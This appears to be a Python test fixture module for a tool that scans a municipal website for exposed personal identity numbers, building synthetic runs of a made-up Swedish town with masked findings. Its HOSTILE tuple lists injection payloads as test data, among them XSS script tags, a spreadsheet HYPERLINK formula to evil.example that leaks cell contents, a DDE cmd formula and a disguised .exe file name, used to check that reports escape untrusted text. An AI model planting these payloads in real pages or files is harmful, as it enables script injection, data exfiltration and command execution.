"""Runs of a made-up town in a real database, for the reports' tests: no crawl, hand-made analyses.

The numbers are synthetic: births before 1920, example domains. Some of what a stranger could write on a page
is hostile on purpose.
"""

import hashlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy import Engine, update

from detectors.api import Confidence, Reason, Severity
from scanner.keys import Keyring
from scanner.model import (
    Analysis,
    DocumentReport,
    Finding,
    FoundLink,
    Outcome,
    Properties,
    Steps,
    Where,
    Why,
)
from scanner.store.database import open_database
from scanner.store.reader import RunReader
from scanner.store.runs import RunFacts, begin_run
from scanner.store.schema import runs
from scanner.store.visiting import Response

SITE = "exempelby.se"
STARTED = datetime(2026, 11, 23, 2, 15, tzinfo=UTC)
FETCHED = datetime(2026, 11, 23, 2, 20, tzinfo=UTC)
MODIFIED = "Mon, 02 Mar 2026 08:00:00 GMT"
MADE = datetime(2026, 11, 23, 2, 22, tzinfo=UTC)
"""When the run began, when its pages were fetched, when its report is made."""
KEYRING = Keyring(bytes(range(32)))

HOSTILE = (
    "<script>window.owned=1</script>",
    '"><img src=x onerror="window.owned=1">',
    "</script></style></title><svg onload=window.owned=1>",
    "</textarea></template>{{ 7*7 }}{% raw %}<!--",
    "javascript:window.owned=1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+46700000000",
    "invoice\u202efdp.exe",
    "\u2066hidden\u2069\u200f direction",
    "\x1b[31mred\x1b]0;title\x07 bell\x00nul",
    "W" * 10_000,
    "line one\nline two\r\nline\u2028three",
    "${7*7} %s {0} {n} {people}",
    "\ud800 lone surrogate".encode("utf-8", "replace").decode(),
)
"""What strangers write in titles, addresses, file names and texts."""

CHECK = Reason("The date exists and the check digit holds", 10)
LABEL = Reason("A label directly before it says what it is", 23)
SHAPE = Reason("It is written as ten digits, as many other numbers are", -13)


@dataclass(frozen=True, slots=True)
class Page:
    """An address with what its analysis said. ``at`` is the time it was fetched."""

    url: str
    documents: tuple[DocumentReport, ...]
    links: tuple[str, ...] = ()
    outside: tuple[tuple[str, int], ...] = ()
    status: int = 200
    at: datetime = FETCHED
    origin: str = "a"


NOT_VISITED = Page("", (DocumentReport(None, Outcome.SKIPPED, Why.BUDGET),), status=0)
"""What becomes of an address that a page links to and no ``Page`` describes."""


def finding(
    number: int,
    *,
    kind: str = "se.personnummer",
    value: str = "19••••••-••••",
    person: str | None = None,
    confidence: Confidence = Confidence.CONFIRMED,
    severity: Severity = Severity.HIGH,
    where: Where = Where.BODY,
    steps: Steps = (),
    context: str | None = None,
    reasons: tuple[Reason, ...] = (CHECK, LABEL),
    occurrences: int = 1,
) -> Finding:
    """A masked finding; its id and person follow from ``number``."""
    return Finding(
        id=KEYRING.finding("test", str(number)),
        kind=kind,
        value=value,
        person=KEYRING.person(kind, person or str(number)),
        confidence=confidence,
        severity=severity,
        where=where,
        steps=steps,
        context=f"Personnummer: {value}, sökande i ärendet" if context is None else context,
        reasons=reasons,
        detector="personnummer 1",
        occurrences=occurrences,
    )


def document(
    *findings: Finding,
    member: str | None = None,
    outcome: Outcome = Outcome.SCANNED,
    why: Why | None = None,
    detail: str = "",
    media_type: str = "text/html",
    properties: Properties | None = None,
    sha256: str = "",
    dismissed: tuple[tuple[str, int], ...] = (),
) -> DocumentReport:
    """What became of one document."""
    return DocumentReport(
        member=member,
        outcome=outcome,
        why=why,
        detail=detail,
        media_type=media_type,
        size=12_345,
        sha256=sha256,
        properties=properties or Properties(),
        findings=tuple(findings),
        dismissed=dismissed,
    )


def record_run(
    engine: Engine,
    pages: Iterable[Page],
    *,
    state: str = "complete",
    site: str = SITE,
    started: datetime = STARTED,
    **settings: object,
) -> int:
    """One run over these pages; answers its number."""
    facts = RunFacts(
        site=site,
        seeds=(f"https://www.{site}/",),
        program="0.1.0",
        rules="5f" * 32,
        detectors=("personnummer 1", "cpr 1", "email 1"),
        settings={"crawl": {"obey_robots": True, **settings}},
    )
    writer = begin_run(engine, KEYRING, facts)
    by_key = {_key(page.url): page for page in pages}
    for page in by_key.values():
        writer.discover([_link(page.url, page.origin)], depth=0, referrer=None)
    while waiting := writer.next_pending(1_000):
        for pending in waiting:
            page = by_key.get(pending.key, NOT_VISITED)
            links = tuple(_link(url) for url in page.links)
            response = Response(status=page.status, last_modified=MODIFIED, fetched=page.at)
            writer.record(pending, Analysis(_with_digest(page), links, page.outside), response)
    stopped_by = "" if state == "complete" else "interrupted"
    traffic = {"requests": 1204, "bytes": 98_765_432, "seconds": 310.5, "requests_per_second": 3.88}
    writer.end(state, stopped_by, traffic)
    _set_clock(engine, writer.run_id, started)
    return writer.run_id


def _with_digest(page: Page) -> tuple[DocumentReport, ...]:
    """The page's documents, where none is given with a digest of its own: other addresses or findings, other bytes."""
    own, *inner = page.documents
    content = " ".join([page.url, *(each.id for part in page.documents for each in part.findings)])
    digest = own.sha256 or hashlib.sha256(content.encode("utf-8", "replace")).hexdigest()
    return replace(own, sha256=digest), *inner


def _set_clock(engine: Engine, run_id: int, started: datetime) -> None:
    """Let a run have happened at a time that stays the same from test to test."""
    with engine.begin() as connection:
        when = {"started": started, "ended": started + timedelta(minutes=6)}
        connection.execute(update(runs).where(runs.c.id == run_id).values(when))


def _key(url: str) -> int:
    return KEYRING.address(url)


def _link(url: str, origin: str = "a") -> FoundLink:
    return FoundLink(url=url, shown=url, origin=origin, key=_key(url))


def clean_town() -> list[Page]:
    """Everything was read, nothing was found."""
    return [
        Page(f"https://www.{SITE}/", (document(properties=Properties(title="Välkommen till Exempelby")),)),
        Page(f"https://www.{SITE}/kontakt", (document(dismissed=((SHAPE.text, 3),)),)),
    ]


def usual_town() -> list[Page]:
    """About fifty findings in all sorts of places, and all sorts of things unread."""
    return list(_usual_pages())


def _usual_pages() -> Iterator[Page]:
    www = f"https://www.{SITE}"
    nobody = document(
        properties=Properties(title="Kommunstyrelsens sammanträde", contact="Nämndkansliet; kommun@exempelby.se")
    )
    minutes = f"{www}/kommun-och-politik/protokoll/2026-02-04/bilaga-3.pdf"
    yield Page(f"{www}/", (nobody,), links=(f"{www}/kommun-och-politik/protokoll/",), origin="seed")
    yield Page(
        f"{www}/kommun-och-politik/protokoll/",
        (nobody,),
        links=(minutes, f"{www}/elever.xlsx"),
        outside=(("agendaportal.example", 41), ("karta.example.org", 7), ("www.example.com", 2)),
    )
    yield Page(
        minutes,
        (
            document(
                finding(
                    1,
                    severity=Severity.CRITICAL,
                    where=Where.REDACTED,
                    steps=(("page", "3"), ("under a box", "")),
                    context="sökande 19••••••-••••, boende på adress",
                ),
                finding(2, steps=(("page", "3"),)),
                finding(3, steps=(("page", "14"),), confidence=Confidence.LIKELY, reasons=(CHECK,)),
                finding(
                    4,
                    steps=(("page", "1"),),
                    confidence=Confidence.POSSIBLE,
                    severity=Severity.MEDIUM,
                    reasons=(SHAPE,),
                    value="••••••••••",
                    context="Faktura ••••••••••",
                ),
                media_type="application/pdf",
                properties=Properties(
                    title="Bilaga 3 – Ansökan om bygglov",
                    author="Karin Exempel, miljö- och byggförvaltningen",
                    producer="Microsoft® Word för Microsoft 365",
                    created="2026-02-01T09:12:00",
                ),
                sha256="ab" * 32,
            ),
        ),
    )
    yield Page(
        f"{www}/elever.xlsx",
        (
            document(
                *(
                    finding(
                        100 + row,
                        severity=Severity.CRITICAL,
                        where=Where.HIDDEN,
                        steps=(("hidden sheet", "Blad2"), ("cell", f"C{row + 2}")),
                        context="… Elev Elevsson | 19••••••-•••• | Specialkost …",
                        reasons=(Reason("Nearly all numbers in its column or list have a right check digit", 20),),
                    )
                    for row in range(30)
                ),
                media_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                properties=Properties(author="Skolkansliet", producer="Microsoft Excel"),
                sha256="cd" * 32,
            ),
        ),
    )
    yield Page(
        f"{www}/da/postliste",
        (
            document(
                finding(
                    200,
                    kind="dk.cpr",
                    value="••••••-••••",
                    where=Where.LINK,
                    severity=Severity.HIGH,
                    steps=(("link", ""),),
                    context="Ansøgning om tilskud, ••••••-••••",
                ),
                finding(
                    201,
                    kind="dk.cpr",
                    value="••••••-••••",
                    where=Where.COMMENT,
                    severity=Severity.MEDIUM,
                    confidence=Confidence.LIKELY,
                    context="<!-- ••••••-•••• -->",
                    steps=(("comment", ""), ("line", "88")),
                ),
                properties=Properties(
                    title="Åben postliste, uge 10", contact="Ansvarlig redaktør: Borgerservice", indexing="meta"
                ),
            ),
        ),
    )
    yield Page(
        f"{www}/bilagor.zip",
        (
            document(media_type="application/zip"),
            document(
                finding(300, steps=(("paragraph", "4"),), where=Where.DELETED, occurrences=3),
                member="brev till sökande.docx",
                media_type="application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                properties=Properties(title="Brev", author="Socialkontoret"),
            ),
            document(
                member="lösenord.pdf",
                outcome=Outcome.UNREAD,
                why=Why.ENCRYPTED,
                media_type="application/pdf",
            ),
        ),
    )
    yield Page(
        f"{www}/kontakt",
        (
            document(
                finding(
                    400,
                    kind="email",
                    value="a•••@example.org",
                    severity=Severity.LOW,
                    where=Where.ATTRIBUTE,
                    context="mailto:a•••@example.org",
                    reasons=(Reason("It is written as an address", 20),),
                ),
                dismissed=((SHAPE.text, 17), ("It is part of a longer number, word or identifier", 240)),
                properties=Properties(title="Kontakta oss"),
            ),
        ),
    )
    for number, (outcome, why, detail) in enumerate(
        (
            (Outcome.UNREAD, Why.PICTURE_OF_TEXT, "12 pages"),
            (Outcome.UNREAD, Why.PICTURE_OF_TEXT, "3 pages"),
            (Outcome.UNREAD, Why.UNSUPPORTED, "application/x-dwg"),
            (Outcome.SKIPPED, Why.ROBOTS, ""),
            (Outcome.SKIPPED, Why.REDIRECT, f"to {www}/kontakt"),
            (Outcome.FAILED, Why.NOT_FOUND, "HTTP 404"),
            (Outcome.FAILED, Why.CRASHED, "PdfError"),
            (Outcome.UNCHANGED, None, ""),
            (Outcome.GONE, None, "HTTP 410"),
        )
    ):
        yield Page(
            f"{www}/arkiv/handling-{number}.pdf",
            (document(outcome=outcome, why=why, detail=detail, media_type="application/pdf"),),
        )


def single_town() -> list[Page]:
    """One finding."""
    return [
        *clean_town(),
        Page(f"https://www.{SITE}/brev.txt", (document(finding(1), media_type="text/plain"),)),
    ]


def hostile_town() -> list[Page]:
    """Every hostile text in every place that a stranger can fill."""
    pages = []
    for number, text in enumerate(HOSTILE):
        properties = Properties(title=text, author=text, producer=text)
        each = finding(
            9000 + number,
            steps=(("page", text), (text[:40], text)),
            context=f"{text} 19••••••-•••• {text}",
            reasons=(Reason("{n} " + text[:60], 1), Reason("it says {what}", 1, (("what", text),))),
            where=list(Where)[number % len(Where)],
        )
        pages.append(
            Page(
                f"https://www.{SITE}/{number}/{text[:200]}",
                (
                    document(each, properties=properties, media_type="text/html"),
                    document(finding(9100 + number), member=f"{text}!/{text}.docx", properties=properties),
                    document(member=f"{text}", outcome=Outcome.UNREAD, why=Why.DAMAGED, detail=text),
                ),
                outside=((f"{text[:60]}.example", 1),),
            )
        )
    return pages


def big_town(count: int = 10_000) -> list[Page]:
    """``count`` findings: half in one spreadsheet, half spread over documents of twenty."""
    www = f"https://www.{SITE}"
    sheet = [
        finding(
            10_000 + row,
            steps=(("sheet", "Data"), ("row", str(row + 2)), ("cell", f"D{row + 2}")),
            where=Where.TABLE,
            context="… Förnamn Efternamn | Exempelgatan 12 | 19••••••-•••• | 2026-03-01 | Beviljad, delvis avslag …",
            reasons=(CHECK, LABEL, Reason("A name stands beside it", 5)),
        )
        for row in range(count // 2)
    ]
    pages = [Page(f"{www}/register/alla.xlsx", (document(*sheet, media_type="text/csv"),))]
    for start in range(count // 2, count, 20):
        each = [
            finding(
                10_000 + number,
                steps=(("page", str(number % 40 + 1)),),
                context="Sökande: Förnamn Efternamn, 19••••••-••••, Exempelgatan 12, 123 45 Exempelby, har ansökt",
                severity=(Severity.MEDIUM, Severity.HIGH)[number % 2],
                confidence=(Confidence.LIKELY, Confidence.CONFIRMED)[number % 3 > 0],
            )
            for number in range(start, min(start + 20, count))
        ]
        url = f"{www}/namnder/namnd-{start % 9}/2026/protokoll-{start}.pdf"
        title = Properties(title=f"Protokoll {start}", producer="Acrobat Distiller")
        pages.append(Page(url, (document(*each, media_type="application/pdf", properties=title),)))
    return pages


TOWNS: dict[str, Callable[[], list[Page]]] = {
    "none": clean_town,
    "one": single_town,
    "fifty": usual_town,
    "many": big_town,
    "hostile": hostile_town,
}


def open_town(directory: Path, name: str) -> tuple[Engine, int]:
    """A database with the run of a town. ``fifty`` has an earlier night before it, for the comparison."""
    engine = open_database(directory)
    if name == "fifty":
        record_run(engine, _night_before(), started=STARTED - timedelta(days=21))
    return engine, record_run(engine, TOWNS[name]())


def _night_before() -> list[Page]:
    """The run before: two of the findings stood already, one has gone since, one cannot be looked at."""
    early = FETCHED - timedelta(days=21)
    www = f"https://www.{SITE}"
    minutes = f"{www}/kommun-och-politik/protokoll/2026-02-04/bilaga-3.pdf"
    old = document(finding(2, steps=(("page", "3"),)), finding(3), media_type="application/pdf")
    return [
        Page(minutes, (old,), at=early),
        Page(f"{www}/kontakt", (document(finding(70)),), at=early),
        Page(f"{www}/arkiv/handling-0.pdf", (document(finding(71)),), at=early),
    ]


def reader_of(directory: Path, name: str) -> RunReader:
    """A reader of a town's run."""
    return RunReader(*open_town(directory, name))
